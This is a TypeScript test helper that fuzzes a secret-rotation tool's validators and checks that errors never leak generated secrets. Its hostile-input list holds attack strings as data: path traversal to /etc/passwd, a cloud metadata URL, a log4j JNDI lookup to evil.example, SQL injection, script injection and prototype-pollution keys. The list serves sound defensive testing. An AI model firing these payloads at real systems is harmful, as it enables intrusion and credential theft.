import assert from 'node:assert/strict';
import fc from 'fast-check';
import { RekeyError } from '../../lambdas/errors.js';
import { Logger } from '../../lambdas/logger.js';
import { CapturedLogs } from '../../local/captured-logs.js';

/**
 * Shared pieces of the hostile-input properties (issue 13, item 5): generators for hostile strings and
 * values, a secret-looking value, and the checks every surface makes — a rejection is a typed rekey error
 * that names the field and echoes no secret, and nothing was written, logged or called.
 */

/** Cases per property per run; the issue asks for at least 200 per surface in CI. */
export const RUNS = 200;

/** Fixed seeds so every run generates the same cases; a failure prints seed and path to replay it. */
export const SEEDS = {
  inventory: 0x13_05_01,
  notifications: 0x13_05_02,
  secretDocument: 0x13_05_03,
  rotationEvent: 0x13_05_04,
  revocationRequest: 0x13_05_05,
  rollbackMessage: 0x13_05_06,
  rollbackRequest: 0x13_05_07,
  providerBodies: 0x13_05_08,
  cliArguments: 0x13_05_09,
  providerBodiesMore: 0x13_05_0a,
} as const;

export function parameters<T>(seed: number, numRuns: number = RUNS): fc.Parameters<T> {
  return { seed, numRuns };
}

/** For the weakened-validator proofs: stop at the first counterexample, shrinking is not the point there. */
export function weakenedParameters<T>(seed: number): fc.Parameters<T> {
  return { seed, numRuns: RUNS, endOnFailure: true };
}

/** Counts the cases each surface ran, so the CI log shows the number actually executed, not the configured one. */
export class CaseCounts {
  private readonly counts = new Map<string, Map<string, number>>();

  count(surface: string, variant = ''): void {
    const variants = this.counts.get(surface) ?? new Map<string, number>();
    variants.set(variant, (variants.get(variant) ?? 0) + 1);
    this.counts.set(surface, variants);
  }

  /** One line per surface: `property cases: <surface> <n>`, with the per-call breakdown where there is one. */
  print(): void {
    for (const [surface, variants] of this.counts) {
      const total = [...variants.values()].reduce((a, b) => a + b, 0);
      const parts = [...variants].filter(([v]) => v !== '').map(([v, n]) => `${v} ${n}`);
      console.log(`property cases: ${surface} ${total}${parts.length ? ` (${parts.join(', ')})` : ''}`);
    }
  }
}

// --- generators ------------------------------------------------------------------------------------------

/** Strings that have broken parsers, paths, URLs, terminals and log pipelines before. */
const HOSTILE_CONSTANTS = [
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\u0000',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u007f',
  '\u2028',
  '\u202e',
  '\ufeff',
  '\ud800',
  '../',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f',
  '//evil.example',
  '//evil.example/v3/api_keys',
  'https://evil.example',
  'http://169.254.169.254/latest/meta-data/',
  'https://user:pass@evil.example/',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '\\\\evil.example\\share',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the hostile input (log4j-style lookup)
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '<script>alert(1)</script>',
  "'; DROP TABLE keys; --",
  '"',
  '\\"',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '0x10',
  'Ⅻ',
  '🔑',
  'ﬁ',
  'e\u0301',
  'İ',
  '𝕊𝔾',
];

/** A very long string: messages, regexes and logs must cope with (and not echo) 100 KB of input. */
const longString = fc
  .tuple(fc.integer({ min: 1_000, max: 100_000 }), fc.constantFrom('A', '/', '../', 'é', '\u0000', '%'))
  .map(([n, unit]) => unit.repeat(Math.ceil(n / unit.length)));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_CONSTANTS) },
  // Control characters and Latin-1.
  fc.string({ unit: 'binary-ascii', maxLength: 40 }),
  // Any printable grapheme, multi-code-point ones included.
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  // Any code point.
  fc.string({ unit: 'binary', maxLength: 20 }),
  // A hostile fragment glued to ordinary text, where a prefix check would let it through.
  fc
    .tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...HOSTILE_CONSTANTS), fc.string({ maxLength: 10 }))
    .map(([a, b, c]) => a + b + c),
  longString,
);

/** Mapping keys, with the names that reach Object.prototype when code indexes a plain object with them. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'valueOf',
    'key',
    'value',
    'apiKey',
  ),
  fc.string({ minLength: 1, maxLength: 12 }),
  hostileString.filter((s) => s.length <= 200),
);

/** Object.prototype member names: a lookup table indexed with these finds a function, not a miss. */
export const PROTOTYPE_NAMES: ReadonlySet<string> = new Set(Object.getOwnPropertyNames(Object.prototype));

/** Values of the wrong type (YAML gives numbers, NaN, Infinity, null, lists and maps as readily as strings). */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileKey, hostileString, { maxKeys: 3 }),
  fc.jsonValue({ maxDepth: 3 }),
);

/**
 * Marks where the case's secret goes. The secret is generated on its own and substituted afterwards
 * (`withSecret`), so every case knows exactly which value must never come back.
 */
export const SECRET_SLOT = '\u0000<secret>\u0000';

/** A secret-looking value in the shapes providers use: a known prefix and 24–48 random base62 characters. */
export const secretValue: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('SG.', 'sk-admin-', 'sk_live_', 'rk_live_', 'xoxb-', 'AKIA', 'SK', 'dd', 'cf_'),
    fc.string({
      unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
      minLength: 24,
      maxLength: 48,
    }),
  )
  .map(([prefix, body]) => prefix + body);

/** The secret where a careless writer, a bad document or a hostile provider would put it. */
export const secretBearing: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constant(SECRET_SLOT) },
  fc.constant([SECRET_SLOT]),
  fc.constant({ value: SECRET_SLOT }),
  fc.constant({ nested: { key: SECRET_SLOT } }),
  fc.constantFrom(
    `Bearer ${SECRET_SLOT}`,
    `https://hooks.example.com/services/${SECRET_SLOT}`,
    `https://user:${SECRET_SLOT}@evil.example/`,
    `${SECRET_SLOT}\n`,
    ` ${SECRET_SLOT}`,
  ),
);

/** A hostile value that sometimes carries the secret. */
export const hostileOrSecret: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileValue },
  secretBearing,
);

/** Substitutes the case's secret for every SECRET_SLOT, keeping own keys such as "__proto__" as own keys. */
export function withSecret<T>(value: T, secret: string): T {
  const fill = (v: unknown): unknown => {
    if (typeof v === 'string') return v.includes(SECRET_SLOT) ? v.split(SECRET_SLOT).join(secret) : v;
    if (Array.isArray(v)) return v.map(fill);
    if (v !== null && typeof v === 'object') {
      const out: Record<string, unknown> = {};
      for (const [k, field] of Object.entries(v)) defineField(out, k, fill(field));
      return out;
    }
    return v;
  };
  return fill(value) as T;
}

/** Sets an own, enumerable property the way JSON.parse and YAML do (plain assignment to "__proto__" would not). */
export function defineField(target: object, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

// --- field-by-field cases with an independent verdict -------------------------------------------------------

/** One generated field: its value (or absence) and whether the contract accepts it (undefined: can't say). */
export interface FieldCase {
  present: boolean;
  value: unknown;
  ok: boolean | undefined;
}

/**
 * A field that is valid (by construction), hostile, or missing. `judge` says whether a hostile value
 * happens to be valid — the contract in one line, written independently of the production schema, so a
 * validator that accepts too much (or too little) is caught.
 */
export function fieldCase(
  valid: fc.Arbitrary<unknown>,
  judge: (value: unknown) => boolean | undefined,
  {
    optional = false,
    hostile = hostileOrSecret,
  }: { optional?: boolean; hostile?: fc.Arbitrary<unknown> } = {},
): fc.Arbitrary<FieldCase> {
  // One field in four broken: a document of six or seven fields is then often valid, often broken once.
  return fc.oneof(
    { weight: 12, arbitrary: valid.map((value): FieldCase => ({ present: true, value, ok: true })) },
    { weight: 3, arbitrary: hostile.map((value): FieldCase => ({ present: true, value, ok: judge(value) })) },
    { weight: 1, arbitrary: fc.constant<FieldCase>({ present: false, value: undefined, ok: optional }) },
  );
}

/** A generated object input: the raw value, the fields the contract refuses, and those it may refuse. */
export interface ObjectCase {
  input: unknown;
  bad: string[];
  unsure: string[];
}

/** Name of the whole input in a verdict, when it is not an object at all. */
export const WHOLE = '(whole input)';

const isPlainObject = (v: unknown): boolean => v !== null && typeof v === 'object' && !Array.isArray(v);

/**
 * An object built field by field, plus extra fields (which a non-strict schema drops), or — with
 * `nonObjects` — sometimes a value that is not an object at all.
 */
export function objectCase(
  fields: Record<string, fc.Arbitrary<FieldCase>>,
  {
    extras = fc.oneof(
      { weight: 2, arbitrary: fc.constant({}) },
      fc.dictionary(hostileKey, hostileOrSecret, { minKeys: 1, maxKeys: 3 }),
    ),
    extrasAllowed = true,
    nonObjects = true,
  }: { extras?: fc.Arbitrary<Record<string, unknown>>; extrasAllowed?: boolean; nonObjects?: boolean } = {},
): fc.Arbitrary<ObjectCase> {
  const names = Object.keys(fields);
  const objects = fc.tuple(fc.record(fields), extras).map(([cases, extra]): ObjectCase => {
    const input: Record<string, unknown> = {};
    const extraNames = Object.keys(extra).filter((k) => !names.includes(k));
    for (const k of extraNames) defineField(input, k, extra[k]);
    const bad: string[] = extrasAllowed ? [] : [...extraNames];
    const unsure: string[] = [];
    for (const [name, c] of Object.entries(cases as Record<string, FieldCase>)) {
      if (c.present) defineField(input, name, c.value);
      if (c.ok === false) bad.push(name);
      if (c.ok === undefined) unsure.push(name);
    }
    return { input, bad, unsure };
  });
  if (!nonObjects) return objects;
  return fc.oneof(
    { weight: 9, arbitrary: objects },
    {
      weight: 1,
      arbitrary: notAnObject.map((input): ObjectCase => ({ input, bad: [WHOLE], unsure: [] })),
    },
  );
}

/** Inputs that are not a mapping: null, a string (the secret itself, say), a number, a list. */
export const notAnObject: fc.Arbitrary<unknown> = hostileOrSecret.filter((v) => !isPlainObject(v));

/** The contract's one-liners, shared by the surfaces. */
export const judge = {
  nonEmptyString: (v: unknown): boolean => typeof v === 'string' && v.length > 0,
  optionalString: (v: unknown): boolean => v === undefined || typeof v === 'string',
  oneOf:
    (...allowed: readonly unknown[]) =>
    (v: unknown): boolean =>
      allowed.includes(v),
  /** ISO 8601 with an offset: a hostile string that starts like one may be valid; anything else is not. */
  isoTimestamp: (v: unknown): boolean | undefined =>
    typeof v === 'string' && /^[+-]?\d{4,6}-\d\d-\d\dT/.test(v) ? undefined : false,
};

/** Valid ISO 8601 timestamps, UTC or with an offset, as Secrets Manager, Scheduler and providers write them. */
export const isoTimestamp: fc.Arbitrary<string> = fc
  .tuple(
    fc.date({
      min: new Date('2000-01-01T00:00:00Z'),
      max: new Date('2099-12-31T23:59:59Z'),
      noInvalidDate: true,
    }),
    fc.constantFrom('Z', '+00:00', '+02:00', '-05:30'),
  )
  .map(([date, zone]) => date.toISOString().replace('Z', zone));

// --- outcomes and checks ------------------------------------------------------------------------------------

export type Outcome<T> = { accepted: true; value: T } | { accepted: false; error: unknown };

/** Runs `call` with stdout and stderr recorded (and still written), so a stray log line cannot hide. */
export function outcomeOf<T>(call: () => T): { outcome: Outcome<T>; output: string } {
  const recorder = new OutputRecorder();
  try {
    return { outcome: { accepted: true, value: call() }, output: recorder.text() };
  } catch (error) {
    return { outcome: { accepted: false, error }, output: recorder.text() };
  } finally {
    recorder.stop();
  }
}

export async function asyncOutcomeOf<T>(
  call: () => Promise<T>,
): Promise<{ outcome: Outcome<T>; output: string }> {
  const recorder = new OutputRecorder();
  try {
    return { outcome: { accepted: true, value: await call() }, output: recorder.text() };
  } catch (error) {
    return { outcome: { accepted: false, error }, output: recorder.text() };
  } finally {
    recorder.stop();
  }
}

/** Records process.stdout/stderr writes while installed; node:test runs one test at a time per file. */
class OutputRecorder {
  private readonly chunks: string[] = [];
  private readonly restore: Array<() => void> = [];

  constructor() {
    for (const stream of [process.stdout, process.stderr]) {
      const original = stream.write;
      stream.write = ((chunk: unknown, ...rest: unknown[]) => {
        this.chunks.push(
          typeof chunk === 'string' ? chunk : Buffer.from(chunk as Uint8Array).toString('utf8'),
        );
        return (original as (...args: unknown[]) => boolean).call(stream, chunk, ...rest);
      }) as typeof stream.write;
      this.restore.push(() => {
        stream.write = original;
      });
    }
  }

  text(): string {
    return this.chunks.join('');
  }

  stop(): void {
    for (const undo of this.restore) undo();
  }
}

/** A logger whose every line (logs and EMF metrics alike) is kept, at debug level, for the leak checks. */
export function capturingLogger(): { logger: Logger; logs: CapturedLogs } {
  const logs = new CapturedLogs();
  return { logger: new Logger(logs.sink, {}, 'debug'), logs };
}

/** Everything an error exposes as text: message, stack, own fields, the cause chain. */
export function errorText(error: unknown, depth = 0): string {
  if (depth > 5) return '';
  if (!(error instanceof Error)) return fc.stringify(error);
  const own = Object.entries(error)
    .filter(([k]) => k !== 'cause')
    .map(([k, v]) => `${k}=${typeof v === 'string' ? v : fc.stringify(v)}`);
  return [error.message, error.stack ?? '', ...own, errorText(error.cause, depth + 1)].join('\n');
}

/** Every `field "…"` a message names; document-level errors name "(document)", "(event)" or "(body)". */
export function fieldsNamed(message: string): string[] {
  return [...message.matchAll(/field "((?:[^"]|"(?! ))*)"/g)].map((m) => m[1]!);
}

/** A short rendering for assertion messages: the case itself is in fast-check's report. */
export function brief(text: string, max = 300): string {
  return text.length <= max
    ? JSON.stringify(text)
    : `${JSON.stringify(text.slice(0, max))}… (${text.length} chars)`;
}

export interface RejectionExpectation {
  /** Generated secrets: none may appear in the error's message, stack, fields or causes. */
  secrets: readonly string[];
  /** The fields the message names (default: every `field "…"`). */
  named?: (message: string) => string[];
  /** At least one named field must pass (e.g. be one the case broke); by default any non-empty name does ("" names nothing). */
  expectField?: (field: string) => boolean;
  /** The error classes this surface may refuse with (default: any RekeyError). */
  types?: ReadonlyArray<abstract new (...args: never[]) => Error>;
}

/**
 * The refusal contract: a typed rekey error whose message names the field (one `expectField` accepts),
 * is built from names rather than stringified values, and carries no secret anywhere.
 */
export function assertTypedRejection(error: unknown, expect: RejectionExpectation): RekeyError {
  assert.ok(
    error instanceof RekeyError,
    `expected a typed rekey error, got ${error instanceof Error ? `${error.name}: ${brief(error.message)}` : brief(fc.stringify(error))}`,
  );
  if (expect.types && !expect.types.some((type) => error instanceof type))
    assert.fail(
      `expected one of ${expect.types.map((t) => t.name).join(', ')}, got ${error.name}: ${brief(error.message)}`,
    );
  const named = (expect.named ?? fieldsNamed)(error.message);
  assert.ok(
    named.some(expect.expectField ?? ((field) => field !== '')),
    named.length === 0
      ? `the message names no field: ${brief(error.message)}`
      : `the message names ${brief(named.join(' | '))}, none of the fields the case broke: ${brief(error.message)}`,
  );
  // A stringified object or a prototype function in a message means a value (not a name) was interpolated.
  assert.ok(
    !/\[object Object\]|\[native code\]/.test(error.message),
    `the message interpolates a value: ${brief(error.message)}`,
  );
  assertNoSecret(errorText(error), expect.secrets, 'the error');
  return error;
}

/** No secret in `text` (an error, a log, captured output). */
export function assertNoSecret(text: string, secrets: readonly string[], where: string): void {
  for (const secret of secrets) {
    if (secret.length === 0) continue;
    const at = text.indexOf(secret);
    assert.ok(
      at < 0,
      `${where} echoes the generated secret: …${brief(text.slice(Math.max(0, at - 80), at + 20), 120)}`,
    );
  }
}

/** Whether a dotted/listed field name reported by a message mentions `field` (a segment, a listed key). */
export function mentions(named: string, field: string): boolean {
  if (named === field) return true;
  const segments = named.split(/\.|, |,/);
  return (
    segments.includes(field) ||
    named.startsWith(`${field}.`) ||
    named.includes(`.${field}.`) ||
    named.endsWith(`.${field}`)
  );
}

// --- AWS and provider stand-ins that must not be reached ----------------------------------------------------

/** What a stand-in throws when used: reaching it means the input was accepted. */
export class TripwireError extends Error {
  constructor(readonly what: string) {
    super(`${what} was called`);
    this.name = 'TripwireError';
  }
}

/**
 * Clients that record and refuse every call, so "refused before any call" and "nothing was stored" are
 * checked, not assumed: a refused input leaves `calls` empty.
 */
export class Tripwire {
  readonly calls: string[] = [];

  client<T>(name: string): T {
    return {
      send: async (command: object) => {
        this.calls.push(`${name}:${command.constructor.name}`);
        throw new TripwireError(name);
      },
    } as unknown as T;
  }

  /** A call that is not an AWS client (a provider adapter, a lookup): recorded and refused the same way. */
  trip(name: string): never {
    this.calls.push(name);
    throw new TripwireError(name);
  }
}
